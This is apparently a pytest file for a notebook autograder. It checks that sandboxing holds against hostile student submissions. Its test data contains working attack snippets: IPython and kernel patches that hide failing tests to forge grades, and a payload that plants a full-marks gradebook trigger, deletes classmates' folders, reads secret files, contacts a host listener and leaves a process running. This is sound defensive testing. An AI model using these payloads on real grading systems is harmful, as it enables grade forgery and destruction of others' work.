"""A class with hostile students: no submission forges its grade or harms anyone else (issue 11).

Each hostile student hands in the blank Section 1 notebook with one attack in its first answer cell, so any point
it earns is forged. The class also has honest students, graded in the same run by the same two workers: they
keep full marks, and nothing outside each student's own sandbox changes (digests of the gradebook's schema,
source/, release/ and every other student's submitted/ before and after).

Attacks on the score: the interpreter is rewired so that a failing test cell shows no error. Each earns 0 and is
reported as "tampered with grading". Attacks on the grader and the class: the gradebook, classmates' files, the
course folder, files outside the course, the host's network, processes left running. Each fails inside the
sandbox. The README's "Security" section says what these tests do not cover.
"""
import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
import uuid

import psutil
import pytest
from traitlets.config import Config

from coursekit import testing as subs
from coursekit.grading import grade_assignment
from coursekit.nbgrader_cli import nbgrader
from coursekit.outcomes import ProblemKind
from coursekit.testing import hidden_test_lines, html_text, make_course_folder

ASSIGNMENT = "01-async-database"
CELL_TIMEOUT = 20
# The argument that names the processes hostile students try to leave behind; what a file outside the course holds.
LEFTOVER = f"coursekit-leftover-{uuid.uuid4().hex[:8]}"
SECRET = f"grader-secret-{uuid.uuid4().hex[:8]}"

SCORE_ATTACKS = {
    "custom-exception-handler": """
        get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
    """,
    "input-transformer": """
        def wrap_in_try(lines):
            body = "".join("    " + line for line in lines) or "    pass\\n"
            return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]
        get_ipython().input_transformers_post.append(wrap_in_try)
    """,
    "ast-transformer": """
        import ast
        class SwallowErrors(ast.NodeTransformer):
            def visit_Module(self, module):
                handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
                module.body = [ast.Try(body=module.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
                return ast.fix_missing_locations(module)
        get_ipython().ast_transformers.append(SwallowErrors())
    """,
    # re-installs a swallowing handler at the start of every cell, after whatever the grader put back
    "event-callback": """
        def swallow_again(*args):
            get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
        get_ipython().events.register("pre_run_cell", swallow_again)
    """,
    "patches-ipython": """
        type(get_ipython())._showtraceback = lambda *args, **kwargs: None
        type(get_ipython()).showtraceback = lambda *args, **kwargs: None
    """,
    "patches-the-kernel": """
        kernel = get_ipython().kernel
        real_send = kernel.session.send
        def send_no_errors(stream, msg_or_type, *args, **kwargs):
            kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
            if kind == "error":
                return None
            return real_send(stream, msg_or_type, *args, **kwargs)
        kernel.session.send = send_no_errors
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
    """,
    "trace-function": """
        import sys
        def skip_failing_lines(frame, event, arg):
            if event == "exception":
                frame.f_locals  # a tracer sees every error: an attacker's jumps would start here
            return skip_failing_lines
        sys.settrace(skip_failing_lines)
        get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)
    """,
    "rebinds-builtins": """
        import builtins
        def any(*args, **kwargs):
            return True
        builtins.any = any
        builtins.all = any
        get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)
    """,
    # installs a hiding handler from inside a test, through a library call the first test makes, then fails
    "hides-errors-while-a-test-runs": """
        import asyncio
        real_wait_for = asyncio.wait_for
        async def wait_for(awaitable, *args, **kwargs):
            if getattr(awaitable, "__name__", "") == "send_concurrently":
                get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
                raise AssertionError("this error is hidden")
            return await real_wait_for(awaitable, *args, **kwargs)
        asyncio.wait_for = wait_for
    """,
    # a fake guard that answers every check with "all clear", and a handler that hides every error
    "disarms-the-grader": """
        import json, sys
        for module in list(sys.modules.values()):
            guard = getattr(module, "guard", None)
            if hasattr(guard, "check"):
                guard.check = lambda nonce, names=(), marker=None: print(json.dumps(
                    {"guard": nonce, "found": [], "reached": True}))
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
    """,
}

HARM_ATTACK = """
    import os, pathlib, shutil, socket, sqlite3, subprocess, sys
    here = pathlib.Path.cwd()  # <course>/autograded/<student>/<assignment>
    course = here.parents[2]
    def attempt(what, action):
        try:
            action()
            print(f"ATTACK {what}: done")
        except Exception as error:
            print(f"ATTACK {what}: failed ({type(error).__name__})")
    def full_marks_trigger():
        db = sqlite3.connect(course / "gradebook.db")
        db.execute("CREATE TRIGGER forged AFTER INSERT ON grade BEGIN "
                   "UPDATE grade SET auto_score = 100 WHERE id = NEW.id; END")
        db.commit()
    attempt("gradebook", full_marks_trigger)
    attempt("delete submitted", lambda: shutil.rmtree(course / "submitted" / "honest-1"))
    attempt("delete autograded", lambda: shutil.rmtree(course / "autograded" / "honest-2"))
    attempt("write course", lambda: (course / "pwned.txt").write_text("pwned"))
    attempt("read source", lambda: print((course / "source" / "ASSIGNMENT" / "ASSIGNMENT.ipynb").read_text()))
    attempt("read config", lambda: print((course / "nbgrader_config.py").read_text()))
    attempt("read outside", lambda: print(pathlib.Path("SECRET_FILE").read_text()))
    attempt("network", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"pwned"))
    attempt("leave a process", lambda: subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", "LEFTOVER"], start_new_session=True))
"""


def harm_attack(port: int, secret_file) -> str:
    return (HARM_ATTACK.replace("ASSIGNMENT", ASSIGNMENT).replace("PORT", str(port)).replace("LEFTOVER", LEFTOVER)
            .replace("SECRET_FILE", str(secret_file)))


def submission_with_attack(attack: str) -> dict:
    blank = subs.blank_submission(ASSIGNMENT)
    first_answer = next(iter(subs.autograded_exercises(blank)))
    return subs.with_answers(blank, {first_answer: textwrap.dedent(attack).strip() + "\n"})


def digest(paths) -> str:
    sha = hashlib.sha256()
    for path in sorted(p for root in paths for p in ([root] if root.is_file() else root.rglob("*")) if p.is_file()):
        sha.update(str(path).encode() + b"\0" + path.read_bytes())
    return sha.hexdigest()


def gradebook_schema(course) -> list:
    with sqlite3.connect(course / "gradebook.db") as db:
        return db.execute("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall()


class Listener:
    """A TCP server on the host's loopback that records whoever connects."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, _ = self.server.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            connection.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    course = make_course_folder(tmp_path_factory.mktemp("hostile"), [ASSIGNMENT])
    secret_file = tmp_path_factory.mktemp("grader") / "secret.txt"
    secret_file.write_text(SECRET)
    listener = Listener()
    harm = harm_attack(listener.port, secret_file)
    students = {
        "honest-1": subs.correct_submission(ASSIGNMENT),
        "honest-2": subs.correct_submission(ASSIGNMENT),
        "harms-the-class": submission_with_attack(harm),
        **{name: submission_with_attack(attack) for name, attack in SCORE_ATTACKS.items()},
    }
    for student, notebook in students.items():
        subs.write_submission(course, student, ASSIGNMENT, notebook)
    honest_before = {s: digest([course / "submitted" / s]) for s in students}
    shared = [course / "source", course / "release", course / "nbgrader_config.py"]
    before = digest(shared), gradebook_schema(course)
    try:
        results = {r.student: r for r in grade_assignment(
            course, ASSIGNMENT, config=Config({"Grading": {"jobs": 2}, "Execute": {"timeout": CELL_TIMEOUT}}))}
    finally:
        listener.close()
    after = digest(shared), gradebook_schema(course)
    submitted_after = {s: digest([course / "submitted" / s]) for s in students}
    return {"course": course, "results": results, "before": before, "after": after, "listener": listener,
            "submitted_before": honest_before, "submitted_after": submitted_after}


@pytest.mark.slow  # grades the hostile class (once per module)
@pytest.mark.parametrize("student", ["honest-1", "honest-2"])
def test_honest_students_in_a_hostile_class_keep_full_marks(hostile_class, student):
    result = hostile_class["results"][student]
    assert result.problem is None, result.problem
    assert result.max_score > 0 and result.scores == result.max_scores


@pytest.mark.slow  # grades the hostile class (once per module)
@pytest.mark.parametrize("student", SCORE_ATTACKS)
def test_rewiring_the_interpreter_earns_nothing_and_is_reported(hostile_class, student):
    result = hostile_class["results"][student]
    assert result.scores and set(result.scores.values()) == {0.0}, f"forged points: {result.scores}"
    assert result.problem and result.problem.kind is ProblemKind.TAMPERED, result.problem


@pytest.mark.slow  # grades the hostile class (once per module)
def test_the_harmful_student_earns_nothing(hostile_class):
    result = hostile_class["results"]["harms-the-class"]
    assert result.scores and set(result.scores.values()) == {0.0}, result.scores


@pytest.mark.slow  # grades the hostile class (once per module)
def test_the_gradebook_the_course_and_the_released_files_are_unchanged(hostile_class):
    assert hostile_class["after"] == hostile_class["before"]
    assert not (hostile_class["course"] / "pwned.txt").exists()


@pytest.mark.slow  # grades the hostile class (once per module)
def test_no_student_changed_anyone_s_submitted_files(hostile_class):
    assert hostile_class["submitted_after"] == hostile_class["submitted_before"]
    for student in ("honest-1", "honest-2"):
        assert (hostile_class["course"] / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").is_file()


@pytest.mark.slow  # grades the hostile class (once per module)
def test_files_outside_the_students_folder_cannot_be_read(hostile_class):
    graded = hostile_class["course"] / "autograded" / "harms-the-class" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    outputs = [output for cell in json.loads(graded.read_text())["cells"] for output in cell.get("outputs", [])]
    printed = "".join("".join(output.get("text", "")) for output in outputs)
    attempts = [line for line in printed.splitlines() if line.startswith("ATTACK")]
    assert len(attempts) == 9, attempts  # every attempt ran, and said how it ended
    # Starting a process is refused by the grader's audit hook (and would die with the sandbox:
    # test_no_process_outlives_grading); nothing else works either. As an ordinary user, the folders above the
    # student's own are the sandbox's skeleton, made by bubblewrap inside the sandbox and owned by the kernel's user in
    # its user namespace: "write course" lands there, thrown away with the sandbox, and the course on the host stays
    # untouched (as root the skeleton is root's and the write fails).
    done = {line for line in attempts if line.endswith(": done")}
    expected = {"ATTACK write course: done"} if os.geteuid() else set()
    assert done == expected, attempts
    assert not (hostile_class["course"] / "pwned.txt").exists()
    assert "subprocess.Popen" in str(hostile_class["results"]["harms-the-class"].problem)
    # what the student's notebook (and so the feedback) shows: no master notebook, no grader config, no secret
    shown = json.dumps(outputs)
    assert "BEGIN HIDDEN TESTS" not in shown and "CourseDirectory" not in shown and SECRET not in shown


@pytest.mark.slow  # grades the hostile class (once per module)
def test_the_host_network_cannot_be_reached(hostile_class):
    assert hostile_class["listener"].connections == 0


@pytest.mark.slow  # grades the hostile class (once per module)
def test_no_process_outlives_grading(hostile_class):
    leftovers = [p for p in psutil.process_iter(["cmdline"]) if LEFTOVER in (p.info["cmdline"] or [])]
    assert not leftovers, [p.info["cmdline"] for p in leftovers]


@pytest.mark.slow
def test_plain_nbgrader_autograde_uses_the_same_sandbox_and_checks(tmp_path):
    """`nbgrader autograde` with the course's config: a forging, harmful student earns 0 next to an honest one."""
    course = make_course_folder(tmp_path / "course", [ASSIGNMENT])
    attack = textwrap.dedent(harm_attack(9, tmp_path / "nothing")) + textwrap.dedent(SCORE_ATTACKS["hides-errors-while-a-test-runs"])
    subs.write_submission(course, "honest", ASSIGNMENT, subs.correct_submission(ASSIGNMENT))
    subs.write_submission(course, "hostile", ASSIGNMENT, submission_with_attack(attack))
    schema = gradebook_schema(course)
    run = nbgrader(course, "autograde", ASSIGNMENT, f"--Execute.timeout={CELL_TIMEOUT}")
    assert "tampered with grading" in run.stderr
    if os.geteuid() == 0:
        assert "coursekit: warm kernels, forked from template process" in run.stderr  # the kernels coursekit grade uses
    else:  # an ordinary user's sandbox cannot be entered by another process: the same sandbox, a cold kernel
        assert "warm kernels need root" in run.stderr and "forked from template process" not in run.stderr
    assert gradebook_schema(course) == schema
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "fastapi-async-db") as gradebook:
        honest = gradebook.find_submission(ASSIGNMENT, "honest")
        hostile = gradebook.find_submission(ASSIGNMENT, "hostile")
        assert honest.score == honest.max_score > 0
        assert hostile.score == 0

    # The feedback tells the tampering student why, and shows no hidden test.
    nbgrader(course, "generate_feedback", ASSIGNMENT, "--student=hostile", "--force")
    feedback = html_text((course / "feedback" / "hostile" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text())
    assert "could not trust this test cell" in feedback and "GradingIntegrityError" in feedback
    assert not [line for line in hidden_test_lines(ASSIGNMENT) if line in feedback]


def test_without_a_sandbox_grading_refuses_and_says_how_to_opt_out(tmp_path, monkeypatch):
    from coursekit import sandbox
    from coursekit.__main__ import main

    monkeypatch.setattr(sandbox, "unavailable_reason", lambda: "bubblewrap (bwrap) is not installed.")
    (tmp_path / "source" / ASSIGNMENT).mkdir(parents=True)
    with pytest.raises(sandbox.SandboxUnavailable, match="--unsafe-no-sandbox"):
        grade_assignment(tmp_path, ASSIGNMENT, students=["anyone"])
    assert main(["grade", ASSIGNMENT, "--course", str(tmp_path)]) == 2
